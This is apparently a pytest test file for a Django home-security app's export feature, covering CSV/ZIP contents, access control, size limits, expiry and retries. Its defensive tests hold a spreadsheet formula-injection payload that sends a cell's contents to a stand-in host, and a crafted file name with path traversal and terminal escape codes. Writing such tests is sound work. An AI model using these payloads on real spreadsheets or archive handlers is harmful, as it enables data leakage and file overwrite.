"""Exports: exactly the events a filter matches, as CSV or ZIP, made in the background
with its progress on /ws/jobs/<id>/, for its owner alone, bounded in size, expiring."""

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone
from websockets.exceptions import InvalidStatus

from events import clips
from events.models import Event
from homesec.roles import make_member
from reports import exports
from reports.models import ExportJob
from reports.tasks import start_export
from tests import factories
from tests.events.test_realtime import open_socket, session_cookie
from tests.media import write_jpeg


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def seeded():
    """Events on two cameras at several levels and times; returns the ones the filter
    (front door, high or critical? no: high only, last 2 days, "person") matches."""
    front, back = factories.camera("Front Door"), factories.camera("Back Yard")
    now = timezone.now()

    def event(cam, score, summary, days_ago):
        return Event.objects.create(
            camera=cam, started_at=now - timedelta(days=days_ago), risk_score=score, summary=summary
        )

    wanted = [event(front, 70, "Person at the door", 0), event(front, 75, "A person lingers", 1)]
    event(front, 70, "Person at the door", 5)  # too old
    event(front, 20, "Person walks past", 0)  # low
    event(front, 90, "Person forcing the lock", 0)  # critical
    event(front, 70, "A cat on the step", 0)  # no person
    event(back, 70, "Person in the yard", 0)  # another camera
    since = (now - timedelta(days=2)).isoformat()
    filters = {"camera": "front_door", "risk_level": "high", "since": since, "search": "person"}
    return wanted, filters


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db(transaction=True)
def test_an_export_holds_exactly_the_matching_events_and_its_progress_reaches_a_socket(
    daphne_server, broker, celery_worker_factory, django_user_model
):
    owner = member(django_user_model.objects.create_user("owner", password="pw"))
    wanted, filters = seeded()
    created = logged_in(owner).post(
        "/api/exports/", {"format": "csv", "filters": filters}, content_type="application/json"
    )
    assert created.status_code == 201, created.content
    job = created.json()
    assert job["socket"] == f"/ws/jobs/{job['id']}/"
    seen = []
    with open_socket(daphne_server, session_cookie(owner), path=job["socket"]) as socket:
        first = json.loads(socket.recv(timeout=10))
        assert first["type"] == "job_progress"
        assert first["data"]["status"] == "pending"  # no worker yet: the job waits
        with celery_worker_factory():
            while not seen or seen[-1]["data"].get("status") not in ("done", "failed"):
                message = json.loads(socket.recv(timeout=60))
                if message["type"] == "job_progress":
                    seen.append(message)
    statuses = [m["data"]["status"] for m in seen]
    assert statuses[0] == "running"
    assert statuses[-1] == "done"
    done = seen[-1]["data"]
    assert (done["progress"], done["total"], done["percent"]) == (2, 2, 100)
    assert done["download_url"] == f"/api/exports/{job['id']}/download/"

    download = logged_in(owner).get(done["download_url"])
    assert download.status_code == 200
    assert download["Content-Type"] == "text/csv"
    rows = read_csv(b"".join(download.streaming_content).decode())
    assert sorted(int(r["id"]) for r in rows) == sorted(e.pk for e in wanted)
    assert {r["camera_name"] for r in rows} == {"Front Door"}


@pytest.mark.django_db(transaction=True)
def test_another_login_can_neither_see_nor_download_nor_follow_an_export(
    daphne_server, broker, django_user_model
):
    owner = member(django_user_model.objects.create_user("owner", password="pw"))
    other = member(django_user_model.objects.create_user("other", password="pw"))
    seeded()
    job = exports.create(owner, "csv", {"camera": "front_door"})
    exports.run(job)
    assert logged_in(owner).get(f"/api/exports/{job.pk}/download/").status_code == 200
    stranger = logged_in(other)
    assert stranger.get(f"/api/exports/{job.pk}/download/").status_code == 404
    assert stranger.get(f"/api/exports/{job.pk}/").status_code == 404
    assert stranger.get("/api/exports/").json()["results"] == []
    with pytest.raises(InvalidStatus) as refused:
        open_socket(daphne_server, session_cookie(other), path=f"/ws/jobs/{job.pk}/")
    assert refused.value.response.status_code == 403


@pytest.mark.django_db
def test_a_zip_export_holds_the_csv_originals_thumbnails_and_clips(camera_root, settings):
    owner = factories_user()
    cam = factories.camera()
    media = factories.processed_upload(cam)
    write_jpeg(camera_root / media.path, seed=1, size=(640, 480))
    detection = media.detections.get()
    write_jpeg(settings.MEDIA_ROOT / "thumbnails" / "t.jpg", seed=2)
    detection.thumbnail_path = "thumbnails/t.jpg"
    detection.save()
    event = factories.event(cam)
    event.detections.set([detection.pk])
    event.save()
    factories.event(factories.camera("Garage"))  # not matched
    assert clips.make(event)[0] is not None
    job = exports.run(exports.create(owner, "zip", {"camera": cam.pk}))
    assert job.status == "done", job.error
    with zipfile.ZipFile(settings.MEDIA_ROOT / job.file) as archive:
        names = set(archive.namelist())
        rows = read_csv(archive.read("events.csv").decode())
    thumbnail = f"thumbnails/{event.pk}-{detection.pk}.jpg"
    assert names == {"events.csv", f"originals/{media.path}", thumbnail, f"clips/{event.pk}.mp4"}
    assert [int(r["id"]) for r in rows] == [event.pk]
    assert rows[0]["files"].split(";") == sorted(names - {"events.csv"})


@pytest.mark.django_db
def test_text_that_starts_like_a_formula_stays_text_in_the_csv(settings):
    owner, cam = factories_user(), factories.camera()
    notes = [
        '=HYPERLINK("http://x.example/?"&A1,"open")',
        "@SUM(1+1)",
        "+1",
        "-1",
        "\tTAB",
        "\rCR",
        "plain note",
        "a = b",
    ]
    for note in notes:
        event = factories.event(cam)
        event.notes = note
        event.save()
    job = exports.run(exports.create(owner, "csv", {"camera": cam.pk}))
    assert job.status == "done", job.error
    table = (settings.MEDIA_ROOT / job.file).read_bytes().decode()  # its \r as written
    kept = sorted(row["notes"] for row in read_csv(table))
    expected = [f"'{note}" for note in notes[:6]] + notes[6:]
    assert kept == sorted(expected)
    assert all(not note.startswith(exports.FORMULA_STARTS) for note in kept)


@pytest.mark.django_db
def test_zip_entry_names_from_camera_file_names_stay_inside_the_archive(camera_root, settings):
    owner, cam = factories_user(), factories.camera()
    media = factories.processed_upload(cam)
    media.path = f"{cam.folder_path}/x\\..\\..\\Windows\\Temp\\evil\nline\x1b[31m:c.jpg"
    media.save()
    write_jpeg(camera_root / media.path, seed=3)
    event = factories.event(cam)
    event.detections.set([media.detections.get().pk])
    event.save()
    job = exports.run(exports.create(owner, "zip", {"camera": cam.pk}))
    assert job.status == "done", job.error
    with zipfile.ZipFile(settings.MEDIA_ROOT / job.file) as archive:
        originals = [name for name in archive.namelist() if name.startswith("originals/")]
        rows = read_csv(archive.read("events.csv").decode())
    assert originals == [f"originals/{cam.folder_path}/x_.._.._Windows_Temp_evil_line_[31m_c.jpg"]
    assert originals[0] in rows[0]["files"].split(";")


@pytest.mark.django_db
def test_an_export_past_the_size_bound_fails_with_a_clear_error(camera_root, settings):
    settings.EXPORT_MAX_MB = 1
    cam = factories.camera()
    media = factories.processed_upload(cam)
    (camera_root / media.path).parent.mkdir(parents=True, exist_ok=True)
    (camera_root / media.path).write_bytes(b"x" * (2 * 2**20))
    event = factories.event(cam)
    event.detections.set(list(media.detections.values_list("pk", flat=True)))
    event.save()
    job = exports.run(exports.create(factories_user(), "zip", {}))
    assert job.status == "failed"
    assert "more than the 1 MB allowed (HOMESEC_EXPORT_MAX_MB)" in job.error
    assert not list((settings.MEDIA_ROOT / "exports").iterdir())  # nothing left behind
    assert exports.run(exports.create(job.owner, "csv", {})).status == "done"  # the CSV fits


@pytest.mark.django_db
def test_an_expired_export_is_removed_file_and_row(camera_root, settings):
    factories.event(factories.camera())
    owner = factories_user()
    old = exports.run(exports.create(owner, "csv", {}))
    fresh = exports.run(exports.create(owner, "csv", {}))
    ExportJob.objects.filter(pk=old.pk).update(expires_at=timezone.now() - timedelta(minutes=1))
    assert exports.expire() == 1
    assert not (settings.MEDIA_ROOT / old.file).exists()
    assert (settings.MEDIA_ROOT / fresh.file).exists()
    assert list(ExportJob.objects.values_list("pk", flat=True)) == [fresh.pk]


def test_filters_the_events_api_refuses_are_refused_with_the_reason():
    with pytest.raises(ValueError, match="risk_level"):
        exports.check_filters({"risk_level": "apocalyptic"})


def factories_user():
    from django.contrib.auth.models import User

    return member(User.objects.create_user(f"u{User.objects.count()}", password="pw"))


def member(user):
    make_member(user)
    return user


@pytest.mark.django_db
def test_a_login_in_neither_group_only_looks_and_exports_nothing(django_user_model):
    from django.contrib.auth.models import User

    looker = User.objects.create_user("looker", password="pw")
    refused = logged_in(looker).post(
        "/api/exports/", {"format": "csv", "filters": {}}, content_type="application/json"
    )
    assert refused.status_code == 403
    assert refused.json()["detail"] == "No export: only admins and members can export events."
    page = logged_in(looker).post("/exports/", {"format": "csv"}, follow=True)
    assert "Nothing exported: only admins and members can export events" in page.content.decode()
    assert not ExportJob.objects.exists()


@pytest.mark.django_db
def test_a_login_keeps_at_most_the_set_number_of_exports(settings):
    settings.EXPORTS_PER_USER = 2
    owner, other = factories_user(), factories_user()
    first = exports.create(owner, "csv", {})
    exports.create(owner, "csv", {})
    refused = logged_in(owner).post(
        "/api/exports/", {"format": "zip", "filters": {}}, content_type="application/json"
    )
    assert refused.status_code == 429
    assert "the most one login may (HOMESEC_EXPORTS_PER_USER)" in refused.json()["detail"]
    assert 0 < int(refused["Retry-After"]) <= settings.EXPORT_KEEP_HOURS * 3600
    assert ExportJob.objects.filter(owner=owner).count() == 2
    assert exports.create(other, "csv", {}).owner == other  # another login's own quota
    ExportJob.objects.filter(pk=first.pk).update(status=ExportJob.Status.FAILED)  # not kept
    assert exports.create(owner, "csv", {}).owner == owner


@pytest.mark.django_db
def test_the_exports_page_starts_an_export_of_its_filter_and_lists_it(camera_root):
    factories.camera("Front Door")
    client = logged_in(factories_user())
    answer = client.post(
        "/exports/",
        {
            "format": "zip",
            "camera": "front_door",
            "risk_level": "high",
            "date_from": "2026-01-02",
            "date_to": "2026-01-03",
            "search": "person",
        },
    )
    assert answer.status_code == 302
    job = ExportJob.objects.get()
    assert job.format == "zip"
    assert job.filters["camera"] == "front_door"
    assert job.filters["since"].startswith("2026-01-02T00:00:00")
    assert job.filters["until"].startswith("2026-01-04T00:00:00")  # the whole of the 3rd
    page = client.get("/exports/").content.decode()
    assert "ZIP: Front Door, high, from 2026-01-02 to before 2026-01-04, “person”" in page
    assert f'data-job="{job.pk}"' in page


@pytest.mark.django_db
def test_retention_removes_expired_exports_too(camera_root, settings):
    from ops import retention

    factories.event(factories.camera())
    job = exports.run(exports.create(factories_user(), "csv", {}))
    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now() - timedelta(hours=1))
    report = retention.cleanup()
    assert report.rows["expired exports"] == 1
    assert not (settings.MEDIA_ROOT / job.file).exists()
    assert not ExportJob.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_an_export_that_fails_is_dead_lettered_and_done_once_requeued(
    camera_root, celery_worker, monkeypatch
):
    from homesec.models import DeadLetter
    from ops import deadletters
    from runner import processes

    owner, cam = factories_user(), factories.camera()
    factories.event(cam)
    real = exports._write_csv

    def disk_full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exports, "_write_csv", disk_full)
    job = start_export(owner, "csv", {"camera": cam.pk})  # its task goes once committed
    assert processes.wait_until(DeadLetter.objects.exists, timeout=30)
    letter = DeadLetter.objects.get()
    assert (letter.task, letter.args) == ("reports.tasks.run_export", [str(job.pk)])
    job.refresh_from_db()
    assert job.status == ExportJob.Status.FAILED
    assert "No space left on device" in job.error

    monkeypatch.setattr(exports, "_write_csv", real)
    deadletters.requeue(letter)
    assert processes.wait_until(
        lambda: ExportJob.objects.get(pk=job.pk).status == ExportJob.Status.DONE, timeout=30
    )
    assert ExportJob.objects.get(pk=job.pk).error == ""
    assert not DeadLetter.objects.exists()
